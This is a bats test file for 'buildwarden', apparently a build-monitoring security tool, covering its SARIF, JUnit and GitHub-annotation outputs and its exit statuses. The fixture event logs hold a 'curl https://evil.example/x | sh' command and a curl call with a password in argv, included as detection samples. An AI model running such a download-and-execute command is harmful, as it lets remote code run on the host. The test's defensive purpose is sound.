#!/usr/bin/env bats
# Results where CI shows them (docs/REPORTS.md, "CI outputs"): `report
# --sarif` validated against the SARIF 2.1.0 JSON schema by ajv and checked
# field by field; `report --junit` parsed as XML (xmllint, python) in the
# shape GitLab's test widget reads; GitHub annotations, their escaping and
# their bound; `run --fail-on` and annotations under GITHUB_ACTIONS on real
# runs; and the one exit status for usage errors (64) and for invalid input
# (65) of every subcommand (docs/CLI.md, "Exit statuses").
# npm packages (pinned in tests/ci-outputs/package.json) are installed once
# under $BW_BUILD/node_modules-ci-outputs; without npm or the registry the
# schema test is skipped, and fails under CI=true.
# Run: bats --tap tests/cli/ci_outputs.bats

bats_require_minimum_version 1.5.0

SRC=${BW_SRC:-$BATS_TEST_DIRNAME/../..}
BUILD=${BW_BUILD:-$SRC/build}
BW=${BUILDWARDEN:-$BUILD/buildwarden}
NPM_DIR=$BUILD/node_modules-ci-outputs
T="timeout -k 5 30"

load npm_once

setup_file() {
	npm_install_once "$SRC/tests/ci-outputs/package.json" "$NPM_DIR"
}

setup() {
	[ -x "$BW" ] || skip "buildwarden not built ($BW)"
	DIR=$(mktemp -d)
}

teardown() {
	rm -rf "$DIR"
}

show() {
	echo "status: $status"
	echo "stdout: $output"
	echo "stderr: ${stderr-}"
}

need_npm() {
	[ -f "$NPM_DIR/.installed" ] && return 0
	local why="npm packages not installed (npm missing or registry unreachable; see $NPM_DIR/npm.log)"
	if [ "${CI-}" = true ]; then
		echo "$why" >&2
		return 1
	fi
	skip "$why"
}

need_root() {
	[ "$(id -u)" -eq 0 ] || skip "needs root"
	[ -e /sys/kernel/btf/vmlinux ] || skip "kernel has no BTF"
}

# make -> sh -> curl, flagged four ways: an exec (high, a secret in argv),
# a tracked file of the checkout /src with ',', ':' and '%' in its name
# (medium), a connect (critical), a DNS query (info). PID and T shift the
# pids and times, which fingerprints must ignore.
write_log() {
	local out=$1 pid=${2:-100} t=${3:-53}
	local p1=$((pid + 1)) p2=$((pid + 2))
	cat >"$out" <<LOG
{"seq":1,"type":"exec","job_id":1,"pid":$pid,"tid":$pid,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"make","filename":"/usr/bin/make","exe":"/usr/bin/make","cwd":"/src","argc":2,"argv":["make","-j2"],"argv_truncated":false}
{"seq":2,"type":"fork","job_id":1,"pid":$p1,"tid":$p1,"start_ns":1010,"parent_pid":$pid,"parent_tid":$pid,"parent_start_ns":1000}
{"seq":3,"type":"exec","job_id":1,"pid":$p1,"tid":$p1,"start_ns":1010,"comm":"sh","filename":"/bin/sh","exe":"/usr/bin/dash","argc":3,"argv":["sh","-c","curl https://evil.example/x | sh"]}
{"seq":4,"type":"fork","job_id":1,"pid":$p2,"tid":$p2,"start_ns":1020,"parent_pid":$p1,"parent_tid":$p1,"parent_start_ns":1010}
{"seq":5,"type":"exec","job_id":1,"pid":$p2,"tid":$p2,"start_ns":1020,"comm":"curl","filename":"/usr/bin/curl","exe":"/usr/bin/curl","argc":4,"argv":["curl","--password","hunter2","https://evil.example/x"]}
{"seq":6,"type":"verdict","job_id":1,"rule":"curl-pipe-shell","severity":"high","description":"download piped into a shell: 100% bad","mode":"enforce","rule_action":"kill-process","action":"kill-process","blocked":false,"kernel_missed":false,"pid":$p2,"start_ns":1020,"exe":"/usr/bin/curl","argv":["curl","--password","hunter2","https://evil.example/x"],"ancestry":[],"on":"exec"}
{"seq":7,"type":"verdict","job_id":1,"rule":"tracked-source-changed","severity":"medium","description":"a tracked file changed","mode":"enforce","rule_action":"alert","action":"alert","blocked":false,"kernel_missed":false,"pid":$p1,"start_ns":1010,"exe":"/usr/bin/dash","argv":["sh","-c","curl https://evil.example/x | sh"],"ancestry":[],"on":"file","event":{"op":"open-write","path":"/src/lib/a,b:c%.c","tracked":true}}
{"seq":8,"type":"verdict","job_id":1,"rule":"egress","severity":"critical","description":"connect outside the allowlist","mode":"enforce","rule_action":"alert","action":"alert","blocked":false,"kernel_missed":false,"pid":$p2,"start_ns":1020,"exe":"/usr/bin/curl","argv":["curl","--password","hunter2","https://evil.example/x"],"ancestry":[],"on":"connect","event":{"address":"203.0.113.7","port":443,"dns_name":"evil.example"}}
{"seq":9,"type":"verdict","job_id":1,"rule":"dns-note","severity":"info","description":"","mode":"audit","rule_action":"log","action":"log","blocked":false,"kernel_missed":false,"pid":$p2,"start_ns":1020,"exe":"/usr/bin/curl","argv":["curl","x"],"ancestry":[],"on":"dns","event":{"qname":"evil.example"}}
{"seq":10,"type":"exit","job_id":1,"pid":$p2,"tid":$p2,"start_ns":1020,"exit_code":null,"signal":9,"core_dumped":false}
{"seq":11,"type":"exit","job_id":1,"pid":$p1,"tid":$p1,"start_ns":1010,"exit_code":137,"signal":null,"core_dumped":false}
{"seq":12,"type":"exit","job_id":1,"pid":$pid,"tid":$pid,"start_ns":1000,"exit_code":2,"signal":null,"core_dumped":false}
{"seq":13,"type":"summary","time":"2026-12-04T11:19:$t.250000000Z","job_id":1,"command":["make","-j2"],"exit_status":2,"build_exit_code":2,"build_signal":null,"lost":0,"policy":"ci.yml","mode":"enforce","job_killed":false,"checkout":"/src","duration_ns":2000000000}
LOG
}

# A run that raised nothing.
write_clean_log() {
	cat >"$1" <<'LOG'
{"seq":1,"type":"exec","job_id":1,"pid":100,"tid":100,"start_ns":1000,"ppid":99,"parent_start_ns":1,"comm":"make","filename":"/usr/bin/make","exe":"/usr/bin/make","cwd":"/src","argc":1,"argv":["make"],"argv_truncated":false}
{"seq":2,"type":"exit","job_id":1,"pid":100,"tid":100,"start_ns":1000,"exit_code":0,"signal":null,"core_dumped":false}
{"seq":3,"type":"summary","time":"2026-12-04T11:19:53.250000000Z","job_id":1,"command":["make"],"exit_status":0,"build_exit_code":0,"build_signal":null,"lost":0,"policy":"<default policy>","mode":"enforce","job_killed":false,"checkout":null,"duration_ns":1000000}
LOG
}

# N verdicts of severity $2 (rule R-$2-i) appended to log $1, pids from 500.
add_verdicts() {
	local i
	for ((i = 0; i < $3; i++)); do
		printf '{"seq":%d,"type":"verdict","job_id":1,"rule":"r-%s-%d","severity":"%s","mode":"enforce","rule_action":"alert","action":"alert","blocked":false,"kernel_missed":false,"pid":%d,"start_ns":7,"exe":"/bin/x","argv":["x"],"ancestry":[],"on":"exec"}\n' \
			$((100 + i)) "$2" "$i" "$2" $((500 + i)) >>"$1"
	done
}

@test "report --help lists --sarif, --junit and --annotations; run --help lists --fail-on" {
	run --separate-stderr $T "$BW" report --help
	[ "$status" -eq 0 ] || { show; false; }
	for opt in --sarif --junit --annotations; do
		[[ "$output" == *"$opt"* ]] || { echo "help lacks $opt"; show; false; }
	done
	run --separate-stderr $T "$BW" run --help
	[[ "$output" == *"--fail-on SEVERITY"* && "$output" == *" 123 "* ]] || { show; false; }
}

@test "SARIF: valid against the SARIF 2.1.0 schema (ajv); a broken copy is not" {
	need_npm
	write_log "$DIR/ev.jsonl"
	write_clean_log "$DIR/clean.jsonl"
	# Process results anchored to the workflow file too: both location kinds.
	run -0 --separate-stderr env GITHUB_WORKFLOW_REF=o/r/.github/workflows/ci.yml@refs/heads/main \
		$T "$BW" report --no-tree --sarif "$DIR/r.sarif" "$DIR/ev.jsonl"
	run -0 --separate-stderr $T "$BW" report --no-tree --sarif "$DIR/clean.sarif" "$DIR/clean.jsonl"
	# The validator is not one that accepts everything: a broken copy too.
	python3 - "$DIR/r.sarif" "$DIR/broken.sarif" <<-'PY'
	import json, sys
	d = json.load(open(sys.argv[1]))
	d["runs"][0]["results"][0]["level"] = "fatal"
	for r in d["runs"][0]["results"]:
	    for loc in r["locations"]:
	        if "physicalLocation" in loc:
	            loc["physicalLocation"]["artifactLocation"]["uri"] = 7
	json.dump(d, open(sys.argv[2], "w"))
	PY
	# One node for the three: compiling the schema is most of its time.
	run --separate-stderr $T node "$SRC/tests/ci-outputs/validate-sarif.js" "$NPM_DIR/node_modules" \
		"$DIR/r.sarif" "$DIR/clean.sarif" "$DIR/broken.sarif"
	[ "$status" -eq 1 ] || { show; false; }
	[[ "$output" == *"r.sarif: valid SARIF 2.1.0"* && "$output" == *"clean.sarif: valid SARIF 2.1.0"* ]] ||
		{ show; false; }
	[[ "$output" == *"broken.sarif: INVALID"* ]] || { show; false; }
	[[ "$output" == *"/runs/0/results/0/level"* && "$output" == *"/uri"* ]] || { show; false; }
}

@test "SARIF: rules, levels, locations, fingerprints, invocation; no secret" {
	write_log "$DIR/ev.jsonl"
	run -0 --separate-stderr env -u GITHUB_WORKFLOW_REF $T "$BW" report --no-tree --sarif - "$DIR/ev.jsonl"
	[[ "$output" != *hunter2* ]] || { echo "secret leaked"; show; false; }
	printf '%s\n' "$output" >"$DIR/r.sarif"
	# Code scanning needs a file on every result: the workflow's, or one given.
	run -0 --separate-stderr env GITHUB_WORKFLOW_REF=o/r/.github/workflows/ci.yml@refs/heads/main \
		$T "$BW" report --no-tree --sarif "$DIR/wf.sarif" "$DIR/ev.jsonl"
	run -0 --separate-stderr env GITHUB_WORKFLOW_REF=o/r/.github/workflows/ci.yml@refs/heads/main \
		$T "$BW" report --no-tree --sarif-anchor Makefile --sarif "$DIR/mk.sarif" "$DIR/ev.jsonl"
	python3 - "$DIR/wf.sarif" "$DIR/mk.sarif" <<-'PY'
	import json, sys
	for path, want in zip(sys.argv[1:], [".github/workflows/ci.yml", "Makefile"]):
	    for r in json.load(open(path))["runs"][0]["results"]:
	        uri = r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
	        assert uri == (want if r["ruleId"] != "tracked-source-changed" else "lib/a%2Cb%3Ac%25.c"), (path, r)
	        assert r["locations"][0]["logicalLocations"][0]["kind"] == "process", r
	PY
	python3 - "$DIR/r.sarif" <<-'PY'
	import json, sys
	d = json.load(open(sys.argv[1]))
	assert d["version"] == "2.1.0", d["version"]
	run = d["runs"][0]
	drv = run["tool"]["driver"]
	assert drv["name"] == "buildwarden"
	rules = {r["id"]: r for r in drv["rules"]}
	assert set(rules) == {"curl-pipe-shell", "tracked-source-changed", "egress", "dns-note"}, rules
	want = {"curl-pipe-shell": ("error", "8.0"), "tracked-source-changed": ("warning", "5.5"),
	        "egress": ("error", "9.5"), "dns-note": ("note", None)}
	for rid, (lvl, score) in want.items():
	    r = rules[rid]
	    assert r["defaultConfiguration"]["level"] == lvl, (rid, r)
	    assert r["properties"].get("security-severity") == score, (rid, r)
	    assert r["shortDescription"]["text"] and r["help"]["text"], r
	assert rules["egress"]["shortDescription"]["text"] == "connect outside the allowlist"
	assert rules["dns-note"]["shortDescription"]["text"] == "dns-note"  # no description: the name
	res = run["results"]
	# most severe first
	assert [r["ruleId"] for r in res] == ["egress", "curl-pipe-shell", "tracked-source-changed",
	                                      "dns-note"], [r["ruleId"] for r in res]
	for r in res:
	    assert drv["rules"][r["ruleIndex"]]["id"] == r["ruleId"], r
	    assert r["level"] == want[r["ruleId"]][0], r
	    assert len(r["partialFingerprints"]["buildwarden/v1"]) == 16, r
	by = {r["ruleId"]: r for r in res}
	f = by["tracked-source-changed"]["locations"][0]
	assert f["physicalLocation"]["artifactLocation"] == {"uri": "lib/a%2Cb%3Ac%25.c",
	                                                     "uriBaseId": "%SRCROOT%"}, f
	assert run["originalUriBaseIds"]["%SRCROOT%"]["uri"] == "file:///src/", run
	e = by["curl-pipe-shell"]["locations"][0]
	assert "physicalLocation" not in e, e
	assert e["logicalLocations"] == [{"name": "/usr/bin/curl",
	                                  "fullyQualifiedName": "/usr/bin/curl[102]",
	                                  "kind": "process"}], e
	assert "***" in by["curl-pipe-shell"]["message"]["text"], by["curl-pipe-shell"]
	assert "connect evil.example:443" in by["egress"]["message"]["text"], by["egress"]
	inv = run["invocations"][0]
	assert inv["exitCode"] == 2 and inv["executionSuccessful"] is True, inv
	assert inv["startTimeUtc"] == "2026-12-04T11:19:51.250Z", inv
	assert inv["endTimeUtc"] == "2026-12-04T11:19:53.250Z", inv
	PY
}

@test "SARIF fingerprints: the same across runs (other pids, times), different per rule and target" {
	write_log "$DIR/a.jsonl" 100 53
	write_log "$DIR/b.jsonl" 4242 58
	sed 's/"qname":"evil.example"/"qname":"other.example"/' "$DIR/a.jsonl" >"$DIR/c.jsonl"
	for x in a b c; do
		run -0 --separate-stderr $T "$BW" report --no-tree --sarif "$DIR/$x.sarif" "$DIR/$x.jsonl"
	done
	python3 - "$DIR/a.sarif" "$DIR/b.sarif" "$DIR/c.sarif" <<-'PY'
	import json, sys
	def fps(p):
	    res = json.load(open(p))["runs"][0]["results"]
	    return {r["ruleId"]: r["partialFingerprints"]["buildwarden/v1"] for r in res}
	a, b, c = map(fps, sys.argv[1:])
	assert a == b, (a, b)
	assert len(set(a.values())) == 4, a
	assert c["dns-note"] != a["dns-note"], (a, c)
	assert {k: v for k, v in c.items() if k != "dns-note"} == \
	       {k: v for k, v in a.items() if k != "dns-note"}, (a, c)
	PY
}

@test "JUnit: well-formed, GitLab's shape, one failing case per verdict, passing cases on a clean run" {
	command -v xmllint >/dev/null || skip "xmllint not installed (libxml2-utils; tools/deps.sh test)"
	write_log "$DIR/ev.jsonl"
	# Markup, quotes and a control character in argv must be escaped.
	sed -i 's|"argv":\["curl","x"\]|"argv":["curl","<a href=\\"x\\">\&amp;\\u0001</a>"]|' "$DIR/ev.jsonl"
	write_clean_log "$DIR/clean.jsonl"
	run -0 --separate-stderr $T "$BW" report --no-tree --junit "$DIR/r.xml" "$DIR/ev.jsonl"
	run -0 --separate-stderr $T "$BW" report --no-tree --junit "$DIR/clean.xml" "$DIR/clean.jsonl"
	run xmllint --noout "$DIR/r.xml" "$DIR/clean.xml"
	[ "$status" -eq 0 ] || { show; false; }
	! grep -q hunter2 "$DIR/r.xml" || { echo "secret leaked"; false; }
	python3 - "$DIR/r.xml" "$DIR/clean.xml" <<-'PY'
	import sys, xml.etree.ElementTree as ET
	root = ET.parse(sys.argv[1]).getroot()
	assert root.tag == "testsuites", root.tag
	suites = root.findall("testsuite")
	assert len(suites) == 1, suites
	cases = suites[0].findall("testcase")
	failed = [c for c in cases if c.find("failure") is not None]
	assert len(failed) == 4, [c.attrib for c in cases]
	assert int(suites[0].get("tests")) == len(cases), suites[0].attrib
	assert int(suites[0].get("failures")) == 4 == int(root.get("failures")), suites[0].attrib
	for c in cases:
	    assert c.get("name") and c.get("classname"), c.attrib
	cls = sorted(c.get("classname") for c in failed)
	assert cls == ["buildwarden.curl-pipe-shell", "buildwarden.dns-note", "buildwarden.egress",
	               "buildwarden.tracked-source-changed"], cls
	f = {c.get("classname"): c for c in failed}
	t = f["buildwarden.tracked-source-changed"]
	assert t.get("file") == "lib/a,b:c%.c", t.attrib
	fl = f["buildwarden.curl-pipe-shell"].find("failure")
	assert "pid 102" in fl.get("message") and "curl --password ***" in fl.get("message"), fl.attrib
	assert "rule: curl-pipe-shell" in fl.text and "/usr/bin/curl" in fl.text, fl.text
	d = f["buildwarden.dns-note"].find("failure")
	assert '<a href="x">' in d.get("message"), d.attrib
	passed = [c.get("name") for c in cases if c.find("failure") is None]
	assert passed == ["trace complete", "job not terminated by the policy"], passed
	clean = ET.parse(sys.argv[2]).getroot()
	cc = clean.find("testsuite").findall("testcase")
	assert len(cc) == 3 and all(c.find("failure") is None for c in cc), [c.attrib for c in cc]
	assert clean.get("failures") == "0" and clean.get("tests") == "3", clean.attrib
	PY
}

@test "annotations: one workflow command per verdict, most severe first, escaped as GitHub says" {
	write_log "$DIR/ev.jsonl"
	run -0 --separate-stderr $T "$BW" report --no-tree --annotations "$DIR/ev.jsonl"
	[ "${#lines[@]}" -eq 4 ] || { show; false; }
	[[ "${lines[0]}" == "::error title=buildwarden%3A egress (critical)::connect outside the allowlist (connect evil.example:443): curl --password *** https://evil.example/x (pid 102, action alert)" ]] ||
		{ show; false; }
	[[ "${lines[1]}" == "::error title=buildwarden%3A curl-pipe-shell (high)::download piped into a shell: 100%25 bad: curl --password *** "* ]] ||
		{ show; false; }
	[[ "${lines[2]}" == "::warning title=buildwarden%3A tracked-source-changed (medium),file=lib/a%2Cb%3Ac%25.c::a tracked file changed (file /src/lib/a,b:c%25.c): "* ]] ||
		{ show; false; }
	[[ "${lines[3]}" == "::notice title=buildwarden%3A dns-note (info)::dns-note (dns evil.example): curl x (pid 102, action log)" ]] ||
		{ show; false; }
	[[ "$output" != *hunter2* ]] || { echo "secret leaked"; false; }
}

@test "annotations: at most 10 per level, the rest counted in one last annotation" {
	write_clean_log "$DIR/many.jsonl"
	add_verdicts "$DIR/many.jsonl" low 12
	add_verdicts "$DIR/many.jsonl" critical 25
	add_verdicts "$DIR/many.jsonl" info 3
	run -0 --separate-stderr $T "$BW" report --no-tree --annotations "$DIR/many.jsonl"
	local errors warnings notices
	errors=$(grep -c '^::error ' <<<"$output")
	warnings=$(grep -c '^::warning ' <<<"$output")
	notices=$(grep -c '^::notice ' <<<"$output")
	[ "$errors" -eq 10 ] && [ "$warnings" -eq 10 ] && [ "$notices" -eq 3 ] ||
		{ echo "errors $errors warnings $warnings notices $notices"; show; false; }
	# 9 criticals + the count (an error: the most severe level cut), 10 lows, 3 infos shown.
	[ "$(grep -c '^::error title=buildwarden%3A r-critical-' <<<"$output")" -eq 9 ] || { show; false; }
	[[ "${lines[-1]}" == "::error title=buildwarden::18 more verdict(s) not shown as annotations"* ]] ||
		{ show; false; }
	[[ "${lines[0]}" == *"r-critical-0 (critical)"* ]] || { show; false; }
}

@test "exit statuses: 64 for a usage error, 65 for invalid input, in every subcommand" {
	printf 'rules:\n  - name: x\n    action: explode\n' >"$DIR/bad-policy.yaml"
	printf 'reports: r\nbogus: 1\njobs: []\n' >"$DIR/bad-config.yaml"
	printf '{"seq":1,"type":"fork",\n' >"$DIR/bad.jsonl"
	local cmd want
	while IFS='|' read -r want cmd; do
		# shellcheck disable=SC2086
		run --separate-stderr $T "$BW" $cmd
		[ "$status" -eq "$want" ] || { echo "buildwarden $cmd: expected $want"; show; false; }
		[[ "${stderr_lines[0]-}" == "buildwarden"* || "$stderr" == *": error: "* ]] ||
			{ echo "buildwarden $cmd: no error message"; show; false; }
	done <<-EOF
	64|
	64|no-such-command
	64|run --no-such-option -- true
	64|run --fail-on severe -- true
	64|run
	64|report
	64|report --sarif
	64|policy
	64|policy check --bogus x
	64|policy frobnicate
	64|daemon
	64|daemon --config x --bogus
	64|doctor --bogus
	65|run --policy $DIR/bad-policy.yaml -- true
	65|run --policy $DIR/missing.yaml -- true
	65|report $DIR/bad.jsonl
	65|report $DIR/missing.jsonl
	65|policy check $DIR/bad-policy.yaml
	65|policy check $DIR/missing.yaml
	65|daemon --config $DIR/bad-config.yaml --check
	65|daemon --config $DIR/bad-config.yaml
	EOF
}

# A policy with one rule on uname, at severity $1.
uname_policy() {
	printf 'rules:\n  - name: saw-uname\n    description: the build ran uname\n    severity: %s\n    action: log\n    match: {basename: uname}\n' \
		"$1" >"$DIR/p.yaml"
}

@test "run --fail-on: 123 once a verdict reaches the severity, the build having run to its end" {
	need_root
	uname_policy high
	run --separate-stderr env -u GITHUB_ACTIONS $T "$BW" run --no-tree --fail-on high \
		--policy "$DIR/p.yaml" --report "$DIR/r.json" -- sh -c "uname >/dev/null; touch '$DIR/finished'"
	[ "$status" -eq 123 ] || { show; false; }
	[[ "$stderr" != *"::"* ]] || { echo "annotations outside GitHub Actions"; show; false; }
	[ -e "$DIR/finished" ] || { echo "the build was cut short"; false; }
	[[ "${stderr_lines[-1]}" == "buildwarden: warning: 1 verdict(s) reached severity high (--fail-on): exiting 123" ]] ||
		{ show; false; }
	python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d["exit_status"] == 123, d' "$DIR/r.json"
	# Critical is not reached.
	run -0 --separate-stderr $T "$BW" run --no-tree --fail-on critical --policy "$DIR/p.yaml" -- uname
	# A failing build keeps its own status.
	run --separate-stderr $T "$BW" run --no-tree --fail-on high --policy "$DIR/p.yaml" -- sh -c 'uname; exit 3'
	[ "$status" -eq 3 ] || { show; false; }
	[[ "$stderr" == *"reached severity high (--fail-on); the build's own status is kept"* ]] || { show; false; }
}

@test "run under GitHub Actions prints the verdicts as annotations on stderr" {
	need_root
	uname_policy medium
	run --separate-stderr env GITHUB_ACTIONS=true $T "$BW" run --no-tree --policy "$DIR/p.yaml" -- uname
	[ "$status" -eq 0 ] || { show; false; }
	[[ "$output" != *"::"* ]] || { echo "annotations on the build's stdout"; show; false; }
	[ "$(grep -c '^::warning title=buildwarden%3A saw-uname (medium)::the build ran uname: uname (pid ' <<<"$stderr")" -eq 1 ] ||
		{ show; false; }
}
